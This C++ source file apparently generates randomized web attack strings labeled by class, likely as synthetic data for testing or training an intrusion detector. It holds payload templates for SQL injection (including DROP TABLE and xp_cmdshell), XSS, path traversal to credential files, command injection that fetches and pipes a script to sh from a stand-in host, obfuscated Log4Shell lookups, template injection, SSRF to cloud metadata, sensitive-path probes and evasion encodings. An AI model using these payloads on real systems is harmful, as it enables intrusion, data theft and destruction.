#include "payloads.h"

#include <fmt/format.h>

#include <cctype>

#include "words.h"

namespace generator {
namespace {

using Texts = std::initializer_list<std::string_view>;

std::string_view one_of(Random& random, Texts texts) {
  return *(texts.begin() + random.below(texts.size()));
}

std::string_view quote(Random& random) {
  return one_of(random, {"'", "'", "\"", "", "')", "'))"});
}
std::string_view table(Random& random) {
  return one_of(random, {"users", "wp_users", "information_schema.tables", "accounts", "admin",
                         "pg_shadow", "customers", "mysql.user"});
}
std::string_view comment(Random& random) {
  return one_of(random, {"-- -", "--", "#", "/*", ";--"});
}

std::string union_select(std::uint64_t number, Random& random) {
  std::string columns;
  const std::uint64_t before = random.below(4);
  for (std::uint64_t i = 0; i < before; ++i) columns += one_of(random, {"NULL,", "1,", "'a',"});
  columns += one_of(random, {"username,password", "concat(login,0x3a,pass)", "@@version",
                             "table_name", "group_concat(email)", "version()"});
  return fmt::format("{}{} UNION {}SELECT {},{} FROM {}{}", number % 1000, quote(random),
                     one_of(random, {"ALL ", "", "DISTINCT "}), columns, number, table(random),
                     comment(random));
}

std::string boolean_test(std::uint64_t number, Random& random) {
  switch (random.below(4)) {
    case 0:
      return fmt::format("{0}' OR {0}={0}-- -", number);
    case 1:
      return fmt::format("x' AND '{0}'='{0}", number);
    case 2:
      return fmt::format("{} AND (SELECT COUNT(*) FROM {})>{}", number % 1000, table(random),
                         number);
    default:
      return fmt::format(
          "1' AND SUBSTRING((SELECT password FROM {} LIMIT 1),{},1)='{}' AND '{}'<>'",
          table(random), number % 32 + 1, static_cast<char>('a' + number % 26), number);
  }
}

std::string time_test(std::uint64_t number, Random& random) {
  switch (random.below(4)) {
    case 0:
      return fmt::format("{}{} AND SLEEP(5)-- {}", number % 100, quote(random), number);
    case 1:
      return fmt::format("1' AND (SELECT {} FROM (SELECT(SLEEP({})))a)-- -", number,
                         number % 9 + 1);
    case 2:
      return fmt::format("';WAITFOR DELAY '0:0:{}'--{}", number % 9 + 1, number);
    default:
      return fmt::format("1'||(SELECT {} FROM pg_sleep(5))||'", number);
  }
}

std::string error_test(std::uint64_t number, Random& random) {
  if (random.chance(0.5)) {
    return fmt::format("1' AND extractvalue({},concat(0x7e,(SELECT version())))-- -", number);
  }
  return fmt::format("1 AND updatexml({},concat(0x7e,(SELECT user()),0x7e),1)", number);
}

std::string stacked(std::uint64_t number, Random& random) {
  switch (random.below(3)) {
    case 0:
      return fmt::format("1'; DROP TABLE {}_{};-- -", table(random), number);
    case 1:
      return fmt::format("1; INSERT INTO {} VALUES ({},'x','y')--", table(random), number);
    default:
      return fmt::format("1';EXEC xp_cmdshell('ping {}.oast.example')--", number);
  }
}

std::string script(std::uint64_t number, Random& random) {
  switch (random.below(5)) {
    case 0:
      return fmt::format("<script>alert({})</script>", number);
    case 1:
      return fmt::format("\"><img src=x onerror=alert({})>", number);
    case 2:
      return fmt::format("<svg/onload=fetch('//{}.oast.example')>", number);
    case 3:
      return fmt::format("javascript:alert(document.cookie+{})", number);
    default:
      return fmt::format("'-confirm({})-'", number);
  }
}

std::string climb(std::uint64_t number, Random& random) {
  std::string out;
  const std::string_view up = one_of(random, {"../", "../", "..\\", "....//", "..;/"});
  for (std::uint64_t i = 0, depth = 3 + number % 9; i < depth; ++i) out += up;
  out += one_of(random, {"etc/passwd", "etc/shadow", "windows/win.ini", "proc/self/environ",
                         "var/log/auth.log", "root/.ssh/id_rsa", "etc/nginx/nginx.conf"});
  // A zero byte or a question mark cuts what follows off.
  return out + fmt::format("{}{}.png", one_of(random, {std::string_view("\0", 1), "?"}), number);
}

std::string command(std::uint64_t number, Random& random) {
  switch (random.below(4)) {
    case 0:
      return fmt::format("127.0.0.1;cat /etc/passwd #{}", number);
    case 1:
      return fmt::format("x|wget http://{}/{}.sh -O- |sh", "198.51.100.7", number);
    case 2:
      return fmt::format("$(curl http://{}.oast.example/`whoami`)", number);
    default:
      return fmt::format("1 && id && echo {}", number);
  }
}

std::string lookup(std::uint64_t number, Random& random) {
  switch (random.below(3)) {
    case 0:
      return fmt::format("${{jndi:ldap://{}.oast.example/a}}", number);
    case 1:
      return fmt::format("${{${{lower:j}}ndi:${{lower:l}}dap://198.51.100.7:1389/{}}}", number);
    default:
      return fmt::format("${{${{::-j}}${{::-n}}${{::-d}}${{::-i}}:rmi://198.51.100.7/{}}}", number);
  }
}

std::string template_text(std::uint64_t number, Random& random) {
  switch (random.below(4)) {
    case 0:
      return fmt::format("{{{{{}*7}}}}", number);
    case 1:
      return fmt::format("${{{}*7}}", number);
    case 2:
      return fmt::format("<%= {} * 7 %>", number);
    default:
      return fmt::format(
          "{{{{config.__class__.__init__.__globals__['os'].popen('id {}').read()}}}}", number);
  }
}

std::string inner_address(std::uint64_t number, Random& random) {
  switch (random.below(4)) {
    case 0:
      return fmt::format("http://169.254.169.254/latest/meta-data/?x={}", number);
    case 1:
      return fmt::format("http://127.0.0.1:{}/admin?n={}", 1024 + number % 60'000, number);
    case 2:
      return fmt::format("gopher://127.0.0.1:6379/_FLUSHALL%0d%0a{}", number);
    default:
      return fmt::format("http://[::1]:9200/_cat/indices?{}", number);
  }
}

constexpr std::array<std::string_view, 28> kProbes = {
    "/.env",
    "/wp-login.php",
    "/phpmyadmin/index.php",
    "/.git/config",
    "/.git/HEAD",
    "/wp-admin/setup-config.php",
    "/xmlrpc.php",
    "/admin.php",
    "/config.php.bak",
    "/backup.zip",
    "/dump.sql",
    "/.aws/credentials",
    "/server-status",
    "/actuator/env",
    "/actuator/heapdump",
    "/solr/admin/cores",
    "/manager/html",
    "/cgi-bin/luci",
    "/boaform/admin/formLogin",
    "/HNAP1",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/.vscode/sftp.json",
    "/.DS_Store",
    "/api/.env",
    "/phpinfo.php",
    "/shell.php",
    "/console",
    "/_ignition/execute-solution"};

std::string hex_bytes(std::string_view text, std::string_view prefix, std::string_view kept) {
  std::string out;
  for (const char each : text) {
    if (kept.contains(each))
      out += each;
    else
      out += fmt::format("{}{:02x}", prefix, static_cast<unsigned char>(each));
  }
  return out;
}

constexpr std::string_view kLetters =
    "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789-_.~";
constexpr std::string_view kAlsoPlain =
    "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789-_.~/()*,;:=@!$'";

}  // namespace

std::string_view class_of(Attack attack) {
  switch (attack) {
    case Attack::kXss:
      return "xss";
    case Attack::kTraversal:
      return "traversal";
    case Attack::kCommand:
      return "cmdi";
    case Attack::kLog4Shell:
    case Attack::kTemplate:
      return "rce";
    case Attack::kSsrf:
      return "ssrf";
    case Attack::kProbe:
      return "scan";
    default:
      return "sqli";
  }
}

std::string payload(Attack attack, std::uint64_t number, Random& random) {
  switch (attack) {
    case Attack::kUnion:
      return disguised_sql(union_select(number, random), random);
    case Attack::kBoolean:
      return disguised_sql(boolean_test(number, random), random);
    case Attack::kTime:
      return disguised_sql(time_test(number, random), random);
    case Attack::kError:
      return disguised_sql(error_test(number, random), random);
    case Attack::kStacked:
      return stacked(number, random);
    case Attack::kXss:
      return script(number, random);
    case Attack::kTraversal:
      return climb(number, random);
    case Attack::kCommand:
      return command(number, random);
    case Attack::kLog4Shell:
      return lookup(number, random);
    case Attack::kTemplate:
      return template_text(number, random);
    case Attack::kSsrf:
      return inner_address(number, random);
    default:
      return boolean_test(number, random);
  }
}

std::string_view probe_path(Random& random) {
  return random.of(kProbes);
}

std::string encoded(std::string_view text, Random& random) {
  const std::uint64_t way = random.below(100);
  if (way < 45) return hex_bytes(text, "%", kAlsoPlain);
  if (way < 65) {
    std::string out = hex_bytes(text, "%", kLetters);
    for (std::size_t at = 0; (at = out.find("%20", at)) != std::string::npos;)
      out.replace(at, 3, "+");
    return out;
  }
  if (way < 80) return hex_bytes(text, "%", "");
  if (way < 93) return hex_bytes(text, "%25", kLetters);
  return hex_bytes(text, "%u00", kLetters);
}

std::string disguised_sql(std::string text, Random& random) {
  const std::uint64_t way = random.below(100);
  if (way < 25) {
    for (char& each : text) {
      if (random.chance(0.5))
        each = static_cast<char>(std::tolower(static_cast<unsigned char>(each)));
    }
  } else if (way < 40) {
    std::string out;
    for (const char each : text) {
      if (each == ' ')
        out += "/**/";
      else
        out += each;
    }
    return out;
  }
  return text;
}

}  // namespace generator
